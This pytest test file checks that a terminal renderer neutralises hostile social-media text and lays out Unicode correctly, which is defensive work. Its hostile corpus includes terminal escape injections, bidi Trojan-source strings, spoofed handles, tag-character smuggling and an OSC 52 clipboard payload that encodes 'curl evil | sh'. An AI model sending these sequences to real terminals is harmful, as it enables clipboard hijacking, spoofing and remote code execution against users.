"""socialwatch.render: hostile mention text must reach the terminal harmless and visible; benign text unchanged."""

from __future__ import annotations

import io
import random
import subprocess
import sys
import time
import unicodedata

import pytest

from socialwatch.render import (
    color_enabled,
    display_width,
    safe,
    strip_ansi,
    style,
    table,
    truncate,
)

try:
    from hypothesis import given, settings
    from hypothesis import strategies as st
except ImportError:  # pragma: no cover - hypothesis is a test-only extra
    given = None

BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
INVISIBLE = set("\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u180e\u00ad\u2028\u2029\ufe0e\ufe0f") | {
    chr(cp) for cp in range(0xE0000, 0xE0080)
}
CONTEXTUAL = set("\u200c\u200d\ufe0e\ufe0f")  # allowed in emoji sequences / between Arabic or Indic letters


def _flag(code: str) -> str:
    """An emoji tag sequence: black flag, the code as tag characters, cancel tag."""
    return "\U0001f3f4" + "".join(chr(0xE0000 + ord(c)) for c in code) + "\U000e007f"


ENGLAND = _flag("gbeng")
SUBDIVISION_FLAGS = (ENGLAND, _flag("gbsct"), _flag("gbwls"))


def _emojiish(ch: str) -> bool:
    """Independent, loose notion of "a pictographic symbol" for checking what a ZWJ/VS16 may touch."""
    return ord(ch) >= 0x1F000 or unicodedata.category(ch) in ("So", "Sm", "Po", "Pd") or ch == "\u2139"


def _joining_letter(ch: str) -> bool:
    cp = ord(ch)
    in_block = 0x0600 <= cp <= 0x08FF or 0x0900 <= cp <= 0x0DFF or 0xFB50 <= cp <= 0xFEFC
    return in_block and unicodedata.category(ch) != "Cf"


def assert_harmless(out: str, *, keep_newlines: bool = False) -> None:
    """No control character (but \\n when allowed), no bidi control, no invisible character out of context."""
    in_flag: set[int] = set()  # tag characters are allowed only inside the standard subdivision flags
    for flag in SUBDIVISION_FLAGS:
        start = out.find(flag)
        while start != -1:
            in_flag.update(range(start, start + len(flag)))
            start = out.find(flag, start + 1)
    for i, ch in enumerate(out):
        cat = unicodedata.category(ch)
        if (ch == "\n" and keep_newlines) or i in in_flag:
            continue
        assert cat != "Cc", f"control {ch!r} at {i} in {out!r}"
        assert cat != "Cs", f"lone surrogate at {i} in {out!r}"
        assert ch not in BIDI, f"bidi control {ch!r} at {i} in {out!r}"
        if ch in CONTEXTUAL:
            prev = out[i - 1] if i else ""
            before = out[i - 2] if i > 1 else ""
            nxt = out[i + 1] if i + 1 < len(out) else ""
            if ch in "\ufe0e\ufe0f":
                assert prev and (_emojiish(prev) or (prev in "0123456789#*" and nxt == "\u20e3")), repr(out)
            else:
                emoji_ok = (
                    ch == "\u200d"
                    and nxt
                    and _emojiish(nxt)
                    and ((prev and _emojiish(prev)) or (prev == "\ufe0f" and before and _emojiish(before)))
                )
                script_ok = prev and nxt and _joining_letter(prev) and _joining_letter(nxt)
                assert emoji_ok or script_ok, f"{ch!r} out of context at {i} in {out!r}"
            continue
        assert ch not in INVISIBLE, f"invisible {ch!r} at {i} in {out!r}"
        assert cat != "Cf", f"format character {ch!r} at {i} in {out!r}"
    out.encode("utf-8")  # printable without UnicodeEncodeError (no lone surrogates)


# --------------------------------------------------------------------------- hostile corpus

HOSTILE = {
    "csi clear screen": ("before\x1b[2J\x1b[Hafter", "before\\x1b[2J\\x1b[Hafter"),
    "osc 0 title": ("\x1b]0;pwned\x07hi", "\\x1b]0;pwned\\x07hi"),
    "osc 8 hyperlink": (
        "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
        "\\x1b]8;;https://evil.example/\\x1b\\click me\\x1b]8;;\\x1b\\",
    ),
    "osc 52 clipboard": ("\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"),
    "osc 52 st-terminated": ("\x1b]52;c;AAAA\x1b\\", "\\x1b]52;c;AAAA\\x1b\\"),
    "fake prompt": ("great product!\r\x1b[Kroot# ", "great product!\\x0d\\x1b[Kroot# "),
    "bell": ("ding\x07\x07", "ding\\x07\\x07"),
    "backspaces": ("good\x08\x08\x08\x08evil", "good\\x08\\x08\\x08\\x08evil"),
    "c1 csi": ("\x9b2J\x9b31mred", "\\x9b2J\\x9b31mred"),
    "c1 osc and nel": ("\x9d0;title\x9c\x85", "\\x9d0;title\\x9c\\x85"),
    "nul and del": ("a\x00b\x7fc", "a\\x00b\\x7fc"),
    "vertical tab form feed": ("a\x0bb\x0cc", "a\\x0bb\\x0cc"),
    "trojan source": (
        "access = 'user\u202e \u2066// Check if admin\u2069 \u2066'",
        "access = 'user<U+202E> <U+2066>// Check if admin<U+2069> <U+2066>'",
    ),
    "rlo filename": ("invoice\u202efdp.exe", "invoice<U+202E>fdp.exe"),
    "lrm rlm alm": ("a\u200eb\u200fc\u061cd", "a<U+200E>b<U+200F>c<U+061C>d"),
    "zero width space in handle": ("@paypa\u200bl", "@paypa<U+200B>l"),
    "zwj in handle": ("@pay\u200dpal", "@pay<U+200D>pal"),
    "zwnj in latin handle": ("@pay\u200cpal", "@pay<U+200C>pal"),
    "word joiner and invisible ops": (
        "a\u2060b\u2061c\u2062d\u2063e\u2064",
        "a<U+2060>b<U+2061>c<U+2062>d<U+2063>e<U+2064>",
    ),
    "bom": ("\ufeffhello\ufeff", "<U+FEFF>hello<U+FEFF>"),
    "soft hyphen": ("pay\u00adpal", "pay<U+00AD>pal"),
    "mongolian vowel separator": ("a\u180eb", "a<U+180E>b"),
    "tag characters (ascii smuggling)": (
        "nice\U000e0001\U000e0069\U000e0067\U000e006e\U000e007f",
        "nice<U+E0001><U+E0069><U+E0067><U+E006E><U+E007F>",
    ),
    "fake flag tag sequence": (
        "\U0001f3f4\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f",
        "\U0001f3f4<U+E0069><U+E0067><U+E006E><U+E006F><U+E0072><U+E0065><U+E007F>",
    ),
    "lone surrogate": ("bad\ud800text\udfff", "bad<U+D800>text<U+DFFF>"),
    "line separator": ("a\u2028b\u2029c", "a<U+2028>b<U+2029>c"),
    "variation selector out of emoji": ("a\ufe0fb\ufe00", "a<U+FE0F>b<U+FE00>"),
    "repeated vs16": ("\u2764\ufe0f\ufe0f\ufe0f", "\u2764\ufe0f<U+FE0F><U+FE0F>"),
    "stray zwj around emoji": (
        "\u200d\U0001f600\u200d\u200d\U0001f600\u200d",
        "<U+200D>\U0001f600<U+200D><U+200D>\U0001f600<U+200D>",
    ),
    "hangul filler name": ("\u3164\u3164", "<U+3164><U+3164>"),
    "zalgo": ("Z" + "\u0301" * 50, "Z" + "\u0301" * 8 + "<+42 combining marks>"),
}


@pytest.mark.parametrize("raw, expected", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_is_neutralised_and_visible(raw, expected):
    out = safe(raw)
    assert out == expected
    assert_harmless(out)
    assert safe(out) == out  # idempotent
    assert_harmless(safe(raw, keep_newlines=True), keep_newlines=True)


def test_no_raw_escape_or_bel_survives_osc52():
    out = safe("\x1b]52;c;Y3VybA==\x07")
    assert "\x1b" not in out and "\x07" not in out
    assert out.startswith("\\x1b]52;c;") and out.endswith("\\x07")


# --------------------------------------------------------------------------- benign text

BENIGN = {
    "ascii": "Hello @acme, my order #1234 never arrived :( https://example.com/x?y=1",
    "emoji": "love it 😍🔥👍",
    "zwj family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "skin tone": "\U0001f44d\U0001f3fd \U0001f469\U0001f3fe\u200d\U0001f4bb",
    "vs16 heart and zwj after vs16": (
        "\u2764\ufe0f \U0001f3f3\ufe0f\u200d\U0001f308 \U0001f441\ufe0f\u200d\U0001f5e8\ufe0f"
    ),
    "keycap": "press 1\ufe0f\u20e3 or #\ufe0f\u20e3",
    "flags": "\U0001f1fa\U0001f1f8 \U0001f1ef\U0001f1f5 " + ENGLAND + _flag("gbsct") + _flag("gbwls"),
    "arabic": "مرحبا، طلبي لم يصل بعد",
    "hebrew": "שלום, ההזמנה שלי לא הגיעה",
    "persian with zwnj": "من می\u200cخواهم سفارشم را پیگیری کنم",
    "devanagari with zwj": "क्\u200dष और हिन्दी",
    "japanese": "注文した商品がまだ届きません。",
    "korean": "주문이 아직 도착하지 않았습니다",
    "combining accents": "Cafe\u0301 nai\u0308ve Tie\u0302\u0301ng Vie\u0323\u0302t",
    "vietnamese precomposed": "Tiếng Việt có dấu",
    "spaces": "nbsp\u00a0ideographic\u3000thin\u2009",
    "symbols": "© ® ™ € → ✓ ★ …",
}


@pytest.mark.parametrize("text", BENIGN.values(), ids=BENIGN.keys())
def test_benign_text_is_unchanged(text):
    assert safe(text) == text
    assert safe(text, keep_newlines=True) == text
    assert_harmless(text)


def test_newlines_tabs_and_none():
    assert safe(None) == ""
    assert safe("") == ""
    assert safe("a\tb") == "a b"
    assert safe("one\ntwo\r\nthree") == "one⏎two⏎three"
    assert safe("one\ntwo\r\nthree", keep_newlines=True) == "one\ntwo\nthree"
    assert safe("é\ntwo\r\nthree\rfour", keep_newlines=True) == "é\ntwo\nthree\\x0dfour"
    assert safe("é\r\n") == "é⏎"
    assert safe(42) == "42"


def test_mixed_hostile_and_benign():
    raw = "日本語 \x1b[31mred\x1b[0m 👨\u200d👩\u200d👧 \u202eevil\u202c مرحبا\r\n"
    out = safe(raw, keep_newlines=True)
    assert out == "日本語 \\x1b[31mred\\x1b[0m 👨\u200d👩\u200d👧 <U+202E>evil<U+202C> مرحبا\n"
    assert_harmless(out, keep_newlines=True)


def test_random_fuzz_without_hypothesis():
    """A cheap seeded fuzz that runs even where hypothesis is not installed."""
    rng = random.Random(20261123)
    pool = (
        list("abc 日本\u0301é")
        + ["\U0001f600", "\U0001f3fd", "\u2764", "1", "#", "\u20e3", "\U0001f3f4", "\u0627", "\u0628", "\u0915"]
        + sorted(BIDI | INVISIBLE | CONTEXTUAL)
        + [chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0), 0xD800, 0xDFFF)]
        + [chr(c) for c in range(0xE0060, 0xE0080)]
    )
    for _ in range(3000):
        raw = "".join(rng.choice(pool) for _ in range(rng.randint(0, 24)))
        for keep in (False, True):
            out = safe(raw, keep_newlines=keep)
            assert_harmless(out, keep_newlines=keep)
            assert safe(out, keep_newlines=keep) == out


if given is not None:
    _HOSTILE_CHARS = sorted(BIDI | INVISIBLE | CONTEXTUAL) + [
        "\x1b",
        "\x07",
        "\x9b",
        "\r",
        "\n",
        "\ud800",
        "\U0001f600",
    ]

    @settings(max_examples=400, deadline=None)
    @given(
        st.text(st.one_of(st.characters(), st.sampled_from(_HOSTILE_CHARS))),
        st.booleans(),
        st.integers(min_value=0, max_value=40),
    )
    def test_property_safe_output_is_harmless(raw, keep, width):
        out = safe(raw, keep_newlines=keep)
        assert_harmless(out, keep_newlines=keep)
        assert safe(out, keep_newlines=keep) == out
        one_line = safe(raw)
        assert "\n" not in one_line
        assert display_width(truncate(one_line, width)) <= width

else:  # pragma: no cover

    @pytest.mark.skip(reason="hypothesis not installed")
    def test_property_safe_output_is_harmless():
        pass


# --------------------------------------------------------------------------- speed


def test_plain_ascii_fast_path_is_cheap():
    texts = [f"@user{i} my order #{i} never arrived, please help!" for i in range(100_000)]
    start = time.perf_counter()
    out = [safe(t) for t in texts]
    assert time.perf_counter() - start < 20.0  # a guard against quadratic blow-ups, not a speed target (~0.03 s)
    assert out[5] is texts[5]  # no copy on the fast path


def test_one_megabyte_texts_are_fast():
    benign = ("Hello wörld 日本語 مرحبا 👨\u200d👩\u200d👧 " * 40_000)[:1_000_000]
    hostile = ("\x1b[2J\u202e\u200b\x07abc\x9b" * 100_000)[:1_000_000]
    start = time.perf_counter()
    assert safe(benign) == benign
    out = safe(hostile)
    truncate(benign, 80)
    table([[benign, hostile]] * 20, ["a", "b"], max_width=120)
    assert time.perf_counter() - start < 30.0  # a guard against quadratic blow-ups, not a speed target (~0.3 s)
    assert_harmless(out)


def test_module_imports_no_ui_libraries():
    code = "import sys, socialwatch.render; print(sorted(m for m in ('click', 'rich') if m in sys.modules))"
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stdout.strip() == "[]"


# --------------------------------------------------------------------------- width and truncation


@pytest.mark.parametrize(
    "text, width",
    [
        ("", 0),
        ("hello", 5),
        ("日本語", 6),
        ("ｈｉ", 4),  # fullwidth
        ("Cafe\u0301", 4),
        ("Z" + "\u0301" * 8, 1),
        ("مرحبا", 5),
        ("\U0001f600", 2),
        ("\U0001f468\u200d\U0001f469\u200d\U0001f467", 2),
        ("\U0001f44d\U0001f3fd", 2),
        ("\u2764\ufe0f", 2),
        ("\U0001f1fa\U0001f1f8", 2),
        ("한국어", 6),
        ("a\u200bb", 2),
    ],
)
def test_display_width(text, width):
    assert display_width(text) == width


def test_truncate():
    assert truncate("hello", 10) == "hello"
    assert truncate("hello", 5) == "hello"
    assert truncate("hello world", 8) == "hello w…"
    assert truncate("hello", 1) == "…"
    assert truncate("hello", 0) == ""
    assert truncate("hello", -3) == ""
    assert truncate("日本語テキスト", 5) == "日本…"
    assert truncate("日本語テキスト", 6) == "日本…"  # a wide char does not fit in the one column left
    assert display_width(truncate("日本語テキスト", 6)) == 5
    assert truncate("Cafe\u0301 au lait", 5) == "Cafe\u0301…"  # accent stays with its letter
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
    assert truncate(family + family + "x", 5) == family + family + "x"
    assert truncate(family + family + "xy", 5) == family + family + "…"
    assert truncate(family + family + "xy", 4) == family + "…"  # never half a family
    assert truncate("ab" + "\U0001f1fa\U0001f1f8" + "cd", 4) == "ab…"  # never half a flag


# --------------------------------------------------------------------------- tables


def test_table_aligns_by_display_width():
    out = table(
        [["1", "日本語テキスト", "ok"], ["22", "Cafe\u0301 👍\U0001f3fd", "x"], ["333", "plain", ""]],
        ["#", "text", "state"],
        align={0: "r"},
        max_width=80,
    )
    assert out == (
        "  #  text            state\n"
        "───  ──────────────  ─────\n"
        "  1  日本語テキスト  ok\n"
        " 22  Cafe\u0301 👍\U0001f3fd         x\n"
        "333  plain"
    )


def test_table_columns_line_up_with_right_aligned_last_column():
    rows = [
        ["مرحبا", "٣"],
        ["日本語", "12"],
        ["a\u0301b\u0301", "7"],
        ["\U0001f468\u200d\U0001f469\u200d\U0001f467", "1000"],
    ]
    lines = table(rows, ["text", "n"], align={1: "right"}, max_width=80).split("\n")
    assert len({display_width(line) for line in lines}) == 1


def test_table_escapes_hostile_cells_and_keeps_one_line_per_row():
    rows = [["\x1b[2J\x1b]0;t\x07", "multi\nline\r\ncell"], ["\u202eevil", "paypa\u200bl"]]
    out = table(rows, ["a\x1b", "b"], max_width=200)
    lines = out.split("\n")
    assert len(lines) == 4
    assert_harmless(out.replace("\n", " "))
    assert "\\x1b[2J\\x1b]0;t\\x07" in lines[2]
    assert "multi⏎line⏎cell" in lines[2]
    assert "<U+202E>evil" in lines[3] and "paypa<U+200B>l" in lines[3]
    assert lines[0].startswith("a\\x1b")


def test_table_shrinks_widest_text_column_to_max_width():
    long_text = "my order never arrived and nobody answers my emails, this is unacceptable " * 3
    rows = [["12345", "@alice", long_text], ["7", "@bob_the_builder", "short"]]
    out = table(rows, ["id", "author", "text"], align={0: "r"}, max_width=60)
    lines = out.split("\n")
    assert all(display_width(line) <= 60 for line in lines)
    assert lines[2].endswith("…")
    assert "12345" in lines[2] and "@bob_the_builder" in lines[3]  # narrow columns untouched
    assert max(display_width(line) for line in lines) == 60


def test_table_shrinks_wide_chars_without_breaking_alignment():
    rows = [["日本語テキスト" * 10, "1"], ["short", "22"]]
    lines = table(rows, ["text", "n"], align={1: "r"}, max_width=30).split("\n")
    assert {display_width(line) for line in lines} <= {29, 30}
    assert all(line.endswith(("n", "1", "22")) for line in lines[2:] + lines[:1])


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_table_default_width_comes_from_terminal(monkeypatch):
    monkeypatch.setenv("COLUMNS", "40")
    monkeypatch.setattr(sys, "stdout", _Terminal())
    out = table([["x" * 100]], ["text"])
    assert display_width(out.split("\n")[2]) == 40


def test_table_written_to_a_pipe_is_never_cut(monkeypatch):
    monkeypatch.setenv("COLUMNS", "40")
    monkeypatch.setattr(sys, "stdout", io.StringIO())  # not a terminal: a pipe or a file
    long_id = "twitter:" + "1" * 60
    out = table([[long_id, "x" * 300]], ["id", "text"])
    assert long_id in out and "x" * 300 in out and "…" not in out


def test_table_edge_cases():
    assert table([], ["a", "bb"], max_width=80) == "a  bb\n─  ──"
    assert table([["1"]], ["a", "b"], max_width=80) == "a  b\n─  ─\n1"  # short rows are padded
    assert table([[None, 3]], ["a", "b"], max_width=80) == "a  b\n─  ─\n   3"  # non-str cells tolerated
    with pytest.raises(ValueError):
        table([["1", "2", "3"]], ["a", "b"], max_width=80)
    with pytest.raises(ValueError):
        table([["1"]], ["a"], align={0: "middle"}, max_width=80)
    with pytest.raises(ValueError):
        table([["1"]], ["a"], align={3: "r"}, max_width=80)
    out = table([["a", "b"]], ["x", "y"], align={0: "c"}, max_width=5)
    assert out.split("\n")[0] == "x  y"


def test_table_styler_is_applied_after_padding():
    def styler(row: int, col: int, cell: str) -> str:
        return style(cell, fg="red", enabled=row >= 0 and col >= 1)

    rows = [["1", "hi", "a"], ["22", "there", "bb"]]
    out = table(rows, ["n", "word", "x"], max_width=80, styler=styler)
    assert "\x1b[31mhi   \x1b[0m  \x1b[31ma\x1b[0m\n" in out  # padded inside, no trailing spaces at the end
    assert strip_ansi(out) == table(rows, ["n", "word", "x"], max_width=80)


# --------------------------------------------------------------------------- colour


def test_style_and_strip_ansi():
    assert style("hi", fg="red", enabled=False) == "hi"
    assert style("hi", enabled=True) == "hi"
    assert style("hi", fg="red", enabled=True) == "\x1b[31mhi\x1b[0m"
    assert style("hi", fg="bright_cyan", bold=True, enabled=True) == "\x1b[1;96mhi\x1b[0m"
    assert (
        strip_ansi(style("hi", fg="green", bold=True, enabled=True) + " " + style("x", bold=True, enabled=True))
        == "hi x"
    )
    with pytest.raises(ValueError):
        style("hi", fg="purple", enabled=False)


class FakeTTY(io.StringIO):
    def isatty(self) -> bool:
        if self.closed:
            raise ValueError("I/O operation on closed file")  # as real files do
        return True


def test_color_enabled_rules(monkeypatch):
    tty = FakeTTY()
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setenv("NO_COLOR", "1")  # conftest sets it too
    assert color_enabled(tty) is False
    monkeypatch.setenv("NO_COLOR", "")
    assert color_enabled(tty) is False  # set to anything, even empty
    monkeypatch.delenv("NO_COLOR")
    assert color_enabled(tty) is True
    assert color_enabled(io.StringIO()) is False  # not a terminal
    assert color_enabled(object()) is False  # no isatty at all
    closed = FakeTTY()
    closed.close()
    assert color_enabled(closed) is False
    monkeypatch.setenv("TERM", "dumb")
    assert color_enabled(tty) is False
    monkeypatch.delenv("TERM")
    assert color_enabled(tty) is True
